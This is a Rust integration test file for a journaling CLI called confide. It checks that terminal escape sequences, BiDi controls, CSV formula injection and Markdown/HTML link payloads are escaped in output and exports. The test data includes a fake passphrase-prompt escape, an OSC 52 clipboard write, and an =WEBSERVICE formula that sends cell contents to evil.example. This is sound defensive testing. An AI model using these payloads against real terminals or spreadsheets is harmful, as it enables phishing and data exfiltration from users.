//! Terminal escape and BiDi injection, and exports that attack their reader (issue
//! 15, findings 2 and 9): entries carrying every hostile sequence go in through every
//! input path, and the raw bytes of every reading command and every export format
//! are checked. No ESC (but confide's own colours), C1, BiDi control or bare CR
//! reaches a terminal or a spreadsheet; no CSV cell is a formula; no Markdown links
//! or loads anything.
// A test's own notes (SKIPPED, diagnostics) go to the test runner, not through
// confide's terminal output module (clippy.toml).
#![allow(clippy::disallowed_macros, clippy::disallowed_methods)]

use super::common;

use common::{Env, PASS};
use std::path::Path;

/// The hostile sequences: ESC alone, clear screen, a fake passphrase prompt, OSC 52
/// (writes the clipboard), an OSC 8 hyperlink, CR, the one-byte C1 CSI, a
/// right-to-left override, DEL, a line separator.
const HOSTILE: &[&str] = &[
    "\u{1b}",
    "\u{1b}[2J",
    "\u{1b}[2K\rPassphrase: ",
    "\u{1b}]52;c;aGVsbG8=\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\r",
    "\u{9b}2J",
    "\u{202e}",
    "\u{7f}",
    "\u{2028}",
];

/// A hostile value that names where it came in (`marker`), so the outputs can be
/// checked to hold it (escaped) rather than to have lost it.
fn hostile(marker: &str) -> String {
    format!("{marker}{}end", HOSTILE.concat())
}

/// Fails unless `bytes` hold nothing a terminal or a viewer would act on: no ESC
/// (with `colour`, only SGR sequences `ESC [ digits/; m`), no other C0 but `\n` and
/// `\t` (CR only in CRLF), no DEL, no C1, no BiDi control, no U+2028/2029.
fn assert_clean(what: &str, bytes: &[u8], colour: bool) {
    let text = String::from_utf8_lossy(bytes);
    let context = |i: usize| {
        String::from_utf8_lossy(&bytes[i.saturating_sub(40)..(i + 40).min(bytes.len())])
            .into_owned()
    };
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            0x1b => {
                assert!(colour, "{what}: raw ESC at {i}: {:?}", context(i));
                let rest = &bytes[i + 1..];
                let params = rest
                    .iter()
                    .skip(1)
                    .take_while(|b| b.is_ascii_digit() || **b == b';')
                    .count();
                assert!(
                    rest.first() == Some(&b'[') && rest.get(1 + params) == Some(&b'm'),
                    "{what}: an ESC that is not a colour at {i}: {:?}",
                    context(i)
                );
            }
            b'\r' => assert!(
                bytes.get(i + 1) == Some(&b'\n'),
                "{what}: bare CR at {i}: {:?}",
                context(i)
            ),
            b'\n' | b'\t' => {}
            0x00..=0x1f | 0x7f => panic!("{what}: control {b:#04x} at {i}: {:?}", context(i)),
            _ => {}
        }
        i += 1;
    }
    for c in text.chars() {
        assert!(
            !(('\u{80}'..='\u{9f}').contains(&c)
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{2028}' | '\u{2029}')),
            "{what}: {c:?} written raw"
        );
    }
}

/// Runs a command and returns stdout and stderr, both checked clean. `ok`: whether
/// it must succeed (doctor may say something needs attention).
fn run(env: &Env, args: &[&str], ok: bool) -> String {
    let out = env
        .with_pass(PASS)
        .env("TZ", "UTC")
        .args(args)
        .output()
        .unwrap();
    if ok {
        common::ok(&out);
    }
    let colour = args.contains(&"always");
    assert_clean(&format!("{args:?} stdout"), &out.stdout, colour);
    assert_clean(&format!("{args:?} stderr"), &out.stderr, colour);
    String::from_utf8(out.stdout).unwrap()
}

/// Every input path, each with its marker: arguments, stdin, the name flags, the
/// notes, check-in fields, lapse chain fields, a reflection's piped answer, a
/// practice note and a jrnl import.
fn fill(env: &Env) -> Vec<String> {
    let mut markers = Vec::new();
    let mut mark = |m: &str| {
        markers.push(m.to_string());
        hostile(m)
    };
    let ok = |c: &mut assert_cmd::Command| {
        let out = c.env("TZ", "UTC").output().unwrap();
        common::ok(&out);
        assert_clean("input command stdout", &out.stdout, false);
        assert_clean("input command stderr", &out.stderr, false);
    };
    ok(env.cmd().args([
        "journal",
        &mark("journalarg"),
        "--tag",
        &mark("tagflag"),
        "--feel",
        &mark("feelflag"),
        "--mood",
        "4",
    ]));
    ok(env.cmd().arg("journal").write_stdin(mark("journalstdin")));
    ok(env.cmd().args([
        "urge",
        "6",
        "--trigger",
        &mark("triggerflag"),
        "--coping",
        &mark("copingflag"),
        "--note",
        &mark("urgenote"),
    ]));
    ok(env.cmd().args([
        "checkin",
        "--no-questions",
        "--mood",
        "5",
        "--feel",
        &mark("checkinfeel"),
        "--appreciated",
        &mark("checkinappreciated"),
        "--note",
        &mark("checkinnote"),
    ]));
    ok(env.cmd().args([
        "lapse",
        "--new",
        "--trigger",
        &mark("lapsetrigger"),
        "--note",
        &mark("lapsenote"),
        "--vulnerability",
        &mark("chainvulnerability"),
        "--prompting-event",
        &mark("chainprompting"),
        "--thoughts",
        &mark("chainthoughts"),
        "--consequences",
        &mark("chainconsequences"),
        "--next-time",
        &mark("chainnexttime"),
    ]));
    ok(env
        .cmd()
        .args(["reflect", "--skill", "vulnerability"])
        .write_stdin(mark("reflectanswer")));
    ok(env
        .cmd()
        .args(["practice", "solo-joy", "--note", &mark("practicenote")]));
    ok(env.cmd().args(["agenda", &mark("agendapoint")]));
    // Cells a spreadsheet would run, and Markdown that would link or load.
    ok(env.cmd().args([
        "journal",
        "=WEBSERVICE(\"http://evil.example/?\"&A1) ![x](http://evil.example/a.png) [x](http://evil.example/) <http://evil.example/>",
        "--tag",
        "@SUM(1+1)",
        "--feel",
        "+cmd",
    ]));
    ok(env
        .cmd()
        .args(["urge", "3", "--trigger=-2+3", "--note", "=1+1"]));
    let jrnl = serde_json::json!({
        "tags": {},
        "entries": [{
            "title": mark("jrnltitle"),
            "body": mark("jrnlbody"),
            "date": "2026-09-14",
            "time": "21:30",
            "tags": [format!("@{}", mark("jrnltag"))],
            "starred": false
        }]
    });
    let file = env.dir.path().join("hostile-jrnl.json");
    std::fs::write(&file, jrnl.to_string()).unwrap();
    ok(env
        .with_pass(PASS)
        .args(["import", "--from", "jrnl-json"])
        .arg(&file));
    markers
}

/// Every string in a JSON value, one a line.
fn strings(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => format!("{s}\n"),
        serde_json::Value::Array(a) => a.iter().map(strings).collect(),
        serde_json::Value::Object(o) => o.values().map(strings).collect(),
        _ => String::new(),
    }
}

fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    v.sort();
    v
}

#[test]
fn no_hostile_sequence_reaches_a_terminal_or_a_spreadsheet() {
    let env = Env::new();
    env.init_with_start("2026-09-01");
    let markers = fill(&env);

    // Every entry went in, with its sequences intact: the data is kept exactly.
    let list_json = run(&env, &["list", "--json"], true);
    let doc: serde_json::Value = serde_json::from_str(&list_json).unwrap();
    let all = strings(&doc);
    for m in &markers {
        assert!(all.contains(m.as_str()), "{m} did not arrive: {list_json}");
    }
    assert!(
        all.contains("\u{1b}]52;c;aGVsbG8=\u{7}") && all.contains("\u{9b}2J\u{202e}"),
        "the text is kept as written, for the person and for import"
    );
    // ... and escaped in the JSON, not raw.
    assert!(list_json.contains("\\u009b") && list_json.contains("\\u202e"));

    let ids: Vec<String> = doc["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_str().unwrap().to_string())
        .collect();
    assert!(ids.len() >= 10, "{ids:?}");

    // Every reading command, in plain and in forced colour.
    let mut shown = String::new();
    for colour in ["never", "always"] {
        for args in [
            &["list"][..],
            &["list", "--full"],
            &["read"],
            &["tags"],
            &["tags", "--json"],
            &["review", "--since", "2026-09-01"],
            &["review", "--json", "--since", "2026-09-01"],
            &["review", "--session", "--since", "2026-09-01"],
            &["agenda"],
            &["plan"],
            &["plan", "--json"],
            &["prompts"],
            &["prompts", "--json"],
            &["verify"],
            &["verify", "--json"],
            &["start"],
            &["start", "--json"],
        ] {
            let mut a = vec!["--color", colour];
            a.extend_from_slice(args);
            shown.push_str(&run(&env, &a, true));
        }
        run(&env, &["--color", colour, "doctor"], false);
        run(&env, &["--color", colour, "doctor", "--json"], false);
        for id in &ids {
            shown.push_str(&run(&env, &["--color", colour, "show", id], true));
            run(&env, &["--color", colour, "show", "--json", id], true);
        }
    }
    // What was hostile is there to see, as visible escapes.
    for seen in [
        "\\e[2J",
        "\\e]52;c;aGVsbG8=\\u{7}",
        "\\u{9b}2J",
        "\\u{202e}",
        "\\e[2K\\rPassphrase: ",
    ] {
        assert!(shown.contains(seen), "{seen} is not shown: {shown}");
    }
    for m in &markers {
        assert!(shown.contains(m.as_str()), "{m} is not shown");
    }

    // Every export format.
    let exports = env.dir.path().join("exports");
    std::fs::create_dir_all(&exports).unwrap();
    for (format, name) in [
        ("md", "r.md"),
        ("html", "r.html"),
        ("json", "r.json"),
        ("csv", "csv"),
    ] {
        let to = exports.join(name);
        let mut args = vec!["export", "--format", format, "--plaintext", "-o"];
        args.push(to.to_str().unwrap());
        // JSON as the full backup (it must import back); the reports with all text.
        if format == "json" {
            args.push("--all");
        } else {
            args.extend([
                "--since",
                "2026-09-01",
                "--include-text",
                "--include-private",
            ]);
        }
        run(&env, &args, true);
    }
    let mut csv_cells = 0;
    for f in files_under(&exports.join("csv")) {
        let bytes = std::fs::read(&f).unwrap();
        assert_clean(&f.display().to_string(), &bytes, false);
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                csv_cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: a formula cell {cell:?}",
                    f.display()
                );
            }
        }
    }
    assert!(csv_cells > 50, "the CSV tables were written");
    let entries_csv = std::fs::read_to_string(exports.join("csv/entries.csv")).unwrap();
    for prefixed in ["'=WEBSERVICE(", "'@sum(1+1)", "'+cmd"] {
        assert!(
            entries_csv.contains(prefixed),
            "{prefixed} not in {entries_csv}"
        );
    }
    let urges_csv = std::fs::read_to_string(exports.join("csv/urges.csv")).unwrap();
    assert!(urges_csv.contains("'=1+1"), "{urges_csv}");
    assert!(entries_csv.contains("\\e[2J"), "escaped, not lost");

    let md = std::fs::read_to_string(exports.join("r.md")).unwrap();
    assert_clean("markdown export", md.as_bytes(), false);
    assert!(md.contains("evil.example/a.png"), "the text is there");
    assert!(!md.contains("!["), "a live image: {md}");
    for (i, _) in md.match_indices("](") {
        assert!(
            md[..i].ends_with('\\'),
            "a live link at {i}: {}",
            &md[i.saturating_sub(40)..i + 20]
        );
    }
    for (i, _) in md.match_indices('<') {
        assert!(md[..i].ends_with('\\'), "an unescaped < at {i}");
    }

    let html = std::fs::read_to_string(exports.join("r.html")).unwrap();
    assert_clean("html export", html.as_bytes(), false);
    assert!(html.contains("evil.example/a.png"), "the text is there");
    for tag in [
        "<img", "<a ", "<script", "<link", "<iframe", "<object", "href=", "src=",
    ] {
        assert!(!html.contains(tag), "{tag} in the HTML export");
    }

    // The JSON export is clean bytes and still the exact data: it imports back.
    let json = std::fs::read_to_string(exports.join("r.json")).unwrap();
    assert_clean("json export", json.as_bytes(), false);
    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
    let back = strings(&back);
    for m in &markers {
        assert!(back.contains(m.as_str()), "{m} not in the JSON export");
    }
    assert!(
        back.contains(&hostile("journalarg")),
        "not exact in the JSON export"
    );
    let fresh = Env::new();
    fresh.init();
    let out = fresh
        .with_pass(PASS)
        .arg("import")
        .arg(exports.join("r.json"))
        .output()
        .unwrap();
    common::ok(&out);
    // Every hostile entry comes back byte for byte. (The formula entry is left out:
    // import normalises a leading `@` or `+` off tags and feelings, as for jrnl.)
    let hostile_only = |v: &serde_json::Value| -> Vec<serde_json::Value> {
        v["entries"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| markers.iter().any(|m| strings(e).contains(m.as_str())))
            .cloned()
            .collect()
    };
    let imported = hostile_only(&fresh.list_json(PASS));
    // journal (argument and flags), journal (stdin), urge, check-in, lapse, reflection,
    // practice, agenda point, jrnl import.
    assert_eq!(imported.len(), 9, "every hostile entry");
    assert_eq!(
        imported,
        hostile_only(&doc),
        "the JSON export imports back byte for byte"
    );
}

#[test]
fn list_cuts_after_sanitising_and_never_splits_a_sequence() {
    let env = Env::new();
    env.init();
    let text = format!("{}{}", "a".repeat(30), HOSTILE.concat().repeat(4));
    env.journal(&text);
    for columns in 60..=90 {
        let out = env
            .with_pass(PASS)
            .env("COLUMNS", columns.to_string())
            .arg("list")
            .output()
            .unwrap();
        common::ok(&out);
        assert_clean(&format!("list at {columns} columns"), &out.stdout, false);
        let line = String::from_utf8(out.stdout).unwrap();
        let line = line.trim_end_matches('\n');
        assert!(
            confide::ui::text_width(line) <= columns,
            "{columns}: {line:?} is too wide"
        );
        // The cut is at the end of a whole escape: what is kept is a prefix of the
        // whole sanitised text, ending where a character or an escape ends.
        let summary = line.rsplit("  ").next().unwrap();
        let kept = summary.strip_suffix('…').unwrap_or(summary);
        // The list's summary is the text on one line (CR and U+2028 are white space).
        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
        let whole = confide::sanitize::field(&flat);
        assert!(whole.starts_with(kept), "{columns}: {kept:?}");
        let ends: Vec<usize> = flat
            .chars()
            .scan(0, |n, c| {
                *n += confide::sanitize::escaped_len(c, confide::sanitize::Mode::Field);
                Some(*n)
            })
            .collect();
        assert!(
            ends.contains(&kept.len()),
            "{columns}: cut inside an escape: {kept:?}"
        );
    }
}

#[test]
fn doctor_shows_a_newline_in_a_path_escaped() {
    let env = Env::new();
    let dir = env.dir.path().join("odd\nfolder\u{1b}[2J");
    std::fs::create_dir_all(&dir).unwrap();
    let vault = dir.join("vault.confide");
    let out = env
        .with_pass(PASS)
        .env("CONFIDE_VAULT", &vault)
        .args(["init", "--work-factor", "10"])
        .output()
        .unwrap();
    common::ok(&out);
    let out = env
        .cmd()
        .env("CONFIDE_VAULT", &vault)
        .arg("doctor")
        .output()
        .unwrap();
    assert_clean("doctor stdout", &out.stdout, false);
    assert_clean("doctor stderr", &out.stderr, false);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("odd\\nfolder\\e[2J"), "{text}");
    assert!(
        !text.contains("odd folder"),
        "a newline turned into a space: {text}"
    );
}

/// `confide ARGS` on a pseudo-terminal through `script`, with `keys` typed; `None`,
/// with a SKIPPED note, without `script` (which CI requires).
fn on_terminal(env: &Env, args: &str, keys: &[u8]) -> Option<()> {
    if !common::have_script() {
        return None;
    }
    let bin = common::confide_bin();
    let mut c = env.command("script");
    c.args(["-qec", &format!("{} {args}", bin.display()), "/dev/null"])
        .env("CONFIDE_PASSPHRASE", PASS)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(keys).unwrap();
    let out = child.wait_with_output().unwrap();
    common::ok(&out);
    Some(())
}

#[test]
fn guided_prompts_store_what_was_typed_not_the_keys() {
    let env = Env::new();
    env.init();
    // Arrow keys (CSI and SS3), a clear screen, OSC 8 and a C1 CSI typed into the
    // check-in's and the chain's questions. (The pseudo-terminal itself would act on
    // DEL, Ctrl-C and Ctrl-D, so those are not typed.)
    let checkin = b"5\nhopeful\x1b[D\x1b[C\n0\n\nkind \x1b[2Jwords\xc2\x9b2J\x1bOA\n\
        a walk\x1b]8;;http://evil.example\x1b\\ home\x1b[1;5C\n";
    if on_terminal(&env, "checkin", checkin).is_none() {
        return;
    }
    let chain = b"tired\x1b[A\x1b[B\nwork \x1b[2K\x1b[Gemail\n\n\nrest\xc2\x9b1m\n";
    on_terminal(&env, "lapse --chain --new", chain).unwrap();
    let entries = env.entries();
    let stored = strings(&serde_json::Value::Array(entries.clone()));
    assert!(
        !stored.contains(['\u{1b}', '\u{9b}', '\u{7}']),
        "keys stored as text: {stored:?}"
    );
    let checkin = entries.iter().find(|e| e["kind"] == "checkin").unwrap();
    assert_eq!(checkin["emotions"], serde_json::json!(["hopeful"]));
    // The line editor drops a C1 CSI as a key it does not know; what followed it
    // ("2J") was shown on the line as typed text, and what was shown is kept.
    assert_eq!(checkin["appreciated"], "kind words2J");
    assert!(
        checkin["note"].as_str().unwrap().starts_with("a walk"),
        "{checkin}"
    );
    let lapse = entries.iter().find(|e| e["kind"] == "lapse").unwrap();
    assert_eq!(lapse["chain"]["vulnerability"], "tired", "{lapse}");
    assert_eq!(lapse["chain"]["prompting_event"], "work email", "{lapse}");
    assert_eq!(lapse["chain"]["next_time"], "rest1m", "{lapse}");
}
